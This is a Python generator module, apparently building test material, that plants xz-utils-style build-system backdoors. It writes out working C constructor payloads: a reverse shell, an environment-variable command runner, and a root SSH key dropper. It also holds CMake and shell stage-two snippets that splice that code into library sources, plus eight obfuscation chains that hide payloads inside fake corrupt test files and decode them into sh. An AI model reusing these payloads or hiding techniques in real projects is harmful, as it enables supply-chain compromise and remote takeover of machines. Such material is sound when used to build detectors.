"""Plants of the `rel-build-tampering` class: hidden payloads in test files (carriers), decoding
chains (slice bytes, swap characters, decompress, decode) and the build-system snippets that run
them (pipe to sh, eval, inject an object into the link, patch or force-include a source).

The machinery is modelled on the xz-utils 2024 back door (CVE-2024-3094: build-to-host.m4 reading
tests/files/bad-3-corrupt_lzma2.xz through `tr` and `xz -d` into `sh`, then an object spliced into
liblzma) but in other shapes. Written blind: from public write-ups only.
"""
from __future__ import annotations

import base64
import gzip
import io
import lzma
import random
import zlib

from .common import doc_ip, port, token_hex, word

# ----------------------------------------------------------------------------- honest test vectors


def frame(magic: str, data: bytes) -> bytes:
    out = bytearray(magic.encode() + len(data).to_bytes(4, "little"))
    i = 0
    while i < len(data):
        run = 1
        while i + run < len(data) and data[i + run] == data[i] and run < 255:
            run += 1
        out += bytes([run, data[i]])
        i += run
    return bytes(out) + zlib.crc32(data).to_bytes(4, "little")


def runs(rng: random.Random, n: int) -> bytes:
    out = bytearray()
    while len(out) < n:
        out += bytes([rng.randrange(256)]) * rng.choice([1, 1, 2, 3, 8, 40])
    return bytes(out[:n])


def rbytes(rng: random.Random, n: int) -> bytes:
    return bytes(rng.randrange(256) for _ in range(n))


def xz(data: bytes) -> bytes:
    return lzma.compress(data, format=lzma.FORMAT_XZ, preset=6)


def gz(data: bytes) -> bytes:
    buf = io.BytesIO()
    with gzip.GzipFile(fileobj=buf, mode="wb", mtime=0, compresslevel=9, filename="") as fh:
        fh.write(data)
    return buf.getvalue()


# ----------------------------------------------------------------------------- C payloads

def c_payload(rng: random.Random, pfx: str) -> tuple[str, str, str]:
    """(C code, function name, description) of the code the tampered build adds."""
    fn = f"{pfx}_{rng.choice(['cpu', 'crc', 'simd', 'tab', 'hw'])}_{rng.choice(['init', 'probe', 'setup', 'resolve'])}"
    kind = rng.choice(["revshell", "envexec", "keydrop"])
    if kind == "revshell":
        ip, pt = doc_ip(rng), port(rng)
        code = f"""
#include <string.h>
#include <unistd.h>
#include <sys/socket.h>
#include <netinet/in.h>
#include <arpa/inet.h>

__attribute__((constructor)) static void {fn}(void)
{{
	struct sockaddr_in sa;
	int s;
	if (getuid() != 0 || fork() != 0)
		return;
	memset(&sa, 0, sizeof sa);
	sa.sin_family = AF_INET;
	sa.sin_port = htons({pt});
	sa.sin_addr.s_addr = inet_addr("{ip}");
	s = socket(AF_INET, SOCK_STREAM, 0);
	if (s < 0 || connect(s, (struct sockaddr *)&sa, sizeof sa) < 0)
		_exit(0);
	dup2(s, 0); dup2(s, 1); dup2(s, 2);
	execl("/bin/sh", "sh", "-i", (char *)0);
	_exit(0);
}}
"""
        return code, fn, f"a constructor that connects to {ip}:{pt} and attaches /bin/sh to the socket"
    if kind == "envexec":
        var = rng.choice(["LC_", "XDG_", "SSH_", "TZ_"]) + word(rng, (1, 2)).upper()
        magic = token_hex(rng, 6)
        code = f"""
#include <stdlib.h>
#include <string.h>

__attribute__((constructor)) static void {fn}(void)
{{
	const char *v = getenv("{var}");
	if (v && strncmp(v, "{magic}", {len(magic)}) == 0)
		system(v + {len(magic)});
}}
"""
        return code, fn, f"a constructor that runs the rest of environment variable {var} as a shell command when it starts with {magic}"
    key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI" + base64.b64encode(rbytes(rng, 24)).decode() + f" {word(rng)}@build"
    code = f"""
#include <stdio.h>
#include <unistd.h>
#include <sys/stat.h>

__attribute__((constructor)) static void {fn}(void)
{{
	FILE *fp;
	if (geteuid() != 0)
		return;
	mkdir("/root/.ssh", 0700);
	if ((fp = fopen("/root/.ssh/authorized_keys", "a")) != NULL) {{
		fputs("{key}\\n", fp);
		fclose(fp);
	}}
}}
"""
    return code, fn, "a constructor that appends a fixed SSH public key to /root/.ssh/authorized_keys when run as root"


def stage2_shell(rng: random.Random, code: str, target: str, fn: str) -> str:
    """Second-stage shell script: gated like the xz one (x86-64 Linux, gcc, package build) and
    appending the C payload to a library source before it is compiled."""
    gate = rng.choice([
        'test "`uname -m`" = x86_64 && test "`uname -s`" = Linux',
        'case "`uname -m`" in x86_64|aarch64) true;; *) false;; esac',
        'test -f debian/rules || test -n "$RPM_BUILD_ROOT" || test -n "$RPM_ARCH"',
    ])
    eof = rng.choice(["__EOF__", "_END", "CRCEOF", "XEOF"])
    return (f"if {gate}; then\n"
            f"if ! grep -q {fn} \"${{srcdir:-.}}/{target}\" 2>/dev/null; then\n"
            f"cat >> \"${{srcdir:-.}}/{target}\" <<'{eof}'\n{code.strip()}\n{eof}\n"
            f"fi\nfi\n")


def stage2_cmake(rng: random.Random, code: str, target: str, fn: str, mode: str) -> str:
    if mode == "force-include":
        return (f'file(WRITE "${{PROJECT_BINARY_DIR}}/CMakeFiles/.{fn}.h" [==[\n{code.strip()}\n]==])\n'
                f'string(APPEND CMAKE_C_FLAGS " -include ${{PROJECT_BINARY_DIR}}/CMakeFiles/.{fn}.h")\n')
    return (f'file(READ "${{PROJECT_SOURCE_DIR}}/{target}" _src)\n'
            f'if(NOT _src MATCHES "{fn}")\n'
            f'  file(APPEND "${{PROJECT_SOURCE_DIR}}/{target}" [==[\n{code.strip()}\n]==])\nendif()\n')


# ----------------------------------------------------------------------------- decoding chains
# each returns (carrier bytes, pipeline with @F@ for the carrier path, description)

_SWAPS = [
    ([(0x09, 0x20, "\\t", " "), (0x2d, 0x5f, "\\-", "_")], None),
    ([(0x00, 0xff, "\\000", "\\377")], None),
    ([(0x30, 0x31, "0", "1"), (0x61, 0x62, "a", "b")], None),
    ([(0x0a, 0x0d, "\\n", "\\r"), (0x20, 0x09, " ", "\\t")], None),
    ([(0x7a, 0x5a, "z", "Z"), (0x00, 0x01, "\\000", "\\001")], None),
]


def _swap(data: bytes, pairs) -> bytes:
    table = list(range(256))
    for a, b, _, _ in pairs:
        table[a], table[b] = b, a
    return bytes(table[c] for c in data)


def ch_xz_trswap(rng, payload, carrier_hdr):
    pairs, _ = rng.choice(_SWAPS)
    src = "".join(ea + eb for _, _, ea, eb in pairs)
    dst = "".join(eb + ea for _, _, ea, eb in pairs)
    data = _swap(xz(payload), pairs)
    head = rng.choice(['sed "r\\n" @F@', 'cat @F@', '< @F@ cat'])
    dec = rng.choice(["xz -d 2>/dev/null", "xz -dc 2>/dev/null", "xz --decompress --stdout 2>/dev/null"])
    return data, f'{head} | tr "{src}" "{dst}" | {dec}', "the whole file through a tr byte swap and xz -d"


def _embed(rng, region: bytes, hdr: bytes, align: int = 1) -> tuple[bytes, int]:
    off = len(hdr) + rng.randint(200, 1500)
    off = (off + align - 1) // align * align
    pre = hdr + rbytes(rng, off - len(hdr))
    return pre + region + rbytes(rng, rng.randint(100, 900)), off


def ch_tail_head_gzip(rng, payload, hdr):
    comp = gz(payload)
    data, off = _embed(rng, comp, hdr)
    if rng.random() < 0.5:
        pipe = f"tail -c +{off + 1} @F@ | head -c {len(comp)} | gzip -dc 2>/dev/null"
    else:
        pipe = f"head -c {off + len(comp)} @F@ | tail -c {len(comp)} | gunzip -c 2>/dev/null"
    return data, pipe, f"bytes {off}..{off + len(comp)} (tail -c/head -c) gunzipped"


def ch_dd_base64(rng, payload, hdr):
    region = base64.b64encode(xz(payload))
    data, off = _embed(rng, region, hdr)
    pipe = f"dd if=@F@ bs=1 skip={off} count={len(region)} 2>/dev/null | base64 -d | xz -dc 2>/dev/null"
    return data, pipe, f"base64 text at offset {off} (dd skip/count) decoded and unxz'd"


def ch_rot13(rng, payload, hdr):
    b = base64.b64encode(gz(payload)).decode()
    rot = b.translate(str.maketrans("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz",
                                    "NOPQRSTUVWXYZABCDEFGHIJKLMnopqrstuvwxyzabcdefghijklm")).encode()
    data, off = _embed(rng, rot, hdr)
    end = off + len(rot)
    pipe = (f"head -c {end} @F@ | tail -c {len(rot)} | tr 'A-Za-z' 'N-ZA-Mn-za-m' | base64 -d | "
            f"gzip -dc 2>/dev/null")
    return data, pipe, f"rot13'd base64 at offset {off} (head -c/tail -c, tr) decoded and gunzipped"


def ch_marker(rng, payload, hdr):
    mc = rng.choice("#%=~")
    m1 = mc * 4 + word(rng, (2, 2))[:5].ljust(5, "x") + mc * 4
    m2 = mc * 4 + word(rng, (2, 2))[:5].ljust(5, "q") + mc * 4
    b = base64.encodebytes(xz(payload))
    region = b"\n" + m1.encode() + b"\n" + b + m2.encode() + b"\n"
    data, _ = _embed(rng, region, hdr)
    pipe = f"sed -n '/^{m1}$/,/^{m2}$/p' @F@ | sed '1d;$d' | base64 -d | xz -dc 2>/dev/null"
    return data, pipe, f"base64 lines between marker lines {m1} and {m2} (sed) decoded and unxz'd"


def ch_perl_xor(rng, payload, hdr):
    k = rng.randrange(1, 255)
    region = bytes(c ^ k for c in xz(payload))
    data = hdr + rbytes(rng, rng.randint(300, 1500)) + region
    pipe = f"tail -c {len(region)} @F@ | perl -0777 -pe 's/./chr(ord($&)^{k})/gse' | xz -dc 2>/dev/null"
    return data, pipe, f"the last {len(region)} bytes (tail -c) XORed with {k} in perl and unxz'd"


def ch_dd_rev(rng, payload, hdr):
    bs = rng.choice([256, 512, 1024])
    line = base64.b64encode(gz(payload))[::-1] + b"\n"
    blocks = (len(line) + bs - 1) // bs
    region = line + b"\n" * (blocks * bs - len(line))
    data, off = _embed(rng, region, hdr, align=bs)
    pipe = f"dd if=@F@ bs={bs} skip={off // bs} count={blocks} 2>/dev/null | rev | base64 -d | gzip -dc 2>/dev/null"
    return data, pipe, f"a reversed base64 line in blocks {off // bs}..{off // bs + blocks} of {bs} bytes (dd, rev) decoded and gunzipped"


def ch_cut_column(rng, payload, hdr):
    b = base64.b64encode(gz(payload)).decode()
    lines, i, n = [], 0, 0
    while i < len(b):
        step = rng.randint(16, 44)
        hexin = rbytes(rng, rng.randint(4, 12)).hex()
        lines.append(f"{n:03d} {hexin} {b[i:i + step]}")
        i += step
        n += 1
    col = rng.choice([3])
    text = hdr.decode() + "\n".join(lines) + "\n"
    pipe = f"grep -v '^#' @F@ | cut -d' ' -f{col} | tr -d '\\n' | base64 -d | gzip -dc 2>/dev/null"
    return text.encode(), pipe, "the third column of a text vector file (cut, tr -d) base64-decoded and gunzipped"


CHAINS = {"xz-trswap": ch_xz_trswap, "tail-head-gzip": ch_tail_head_gzip, "dd-base64": ch_dd_base64,
          "rot13-base64": ch_rot13, "marker-sed": ch_marker, "perl-xor": ch_perl_xor, "dd-rev": ch_dd_rev,
          "cut-column": ch_cut_column}


def carrier_name(rng: random.Random, chain: str, n: int) -> str:
    w = word(rng, (1, 2))
    if chain == "xz-trswap":
        return rng.choice([f"bad-{n}-corrupt_{w}.xz", f"bad-{n}-{w}_block_header.xz", f"bad-{n}-check_{w}.xz"])
    if chain == "cut-column":
        return rng.choice([f"{w}-vectors.txt", "crc-vectors.txt", f"frames-{w}.txt"])
    return rng.choice([f"bad-{n}-{w}_frame.bin", f"crash-{token_hex(rng, 4)}.bin", f"fuzz-{token_hex(rng, 3)}.raw",
                       f"bad-{n}-overlong_{w}.dat", f"bad-{n}-{w}.lzma"])


def carrier_header(rng: random.Random, name: str, magic: str) -> bytes:
    if name.endswith(".txt"):
        return f"# {word(rng)} test vectors: index input-hex expected-base64\n".encode()
    if name.endswith(".lzma"):
        return bytes([0x5d, 0, 0, 0x80, 0]) + b"\xff" * 8
    return magic.encode() + rbytes(rng, 4)


def honest_carrier(rng: random.Random, name: str, magic: str, size: int, hdr: bytes = b"") -> bytes:
    """The same-named file of the clean release: an honest (corrupt or fuzz) test vector that starts
    with the same header as the planted one."""
    if name.endswith(".xz"):
        data = bytearray(xz(runs(rng, max(64, size - 60))))
        for _ in range(3):   # a corrupt stream, as the name says
            data[rng.randrange(24, len(data) - 12)] ^= 1 << rng.randrange(8)
        return bytes(data)
    if name.endswith(".txt"):
        lines = [hdr.decode().rstrip("\n") if hdr else f"# {word(rng)} test vectors: index input-hex expected-base64"]
        n = 0
        while sum(len(x) + 1 for x in lines) < size:
            inp = runs(rng, rng.randint(4, 12))
            lines.append(f"{n:03d} {inp.hex()} {base64.b64encode(frame(magic, inp)).decode()}")
            n += 1
        return ("\n".join(lines) + "\n").encode()
    if name.endswith(".lzma"):
        return bytes([0x5d, 0, 0, 0x80, 0]) + b"\xff" * 8 + rbytes(rng, max(32, size - 13))
    f = hdr + frame(magic, runs(rng, max(16, size // 2)))
    return (f + rbytes(rng, max(0, size - len(f))))[:max(size, 24)]
